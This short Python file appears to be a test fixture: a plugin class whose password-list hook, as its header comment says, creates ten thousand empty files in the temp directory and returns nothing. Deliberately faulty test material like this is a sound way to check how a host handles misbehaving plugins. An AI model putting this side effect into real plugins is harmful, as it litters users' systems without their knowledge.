# Leaves ten thousand files.
import os


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        for number in range(10_000):
            open(f"{os.environ['TMPDIR']}/{number}", "w").close()
        return None

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
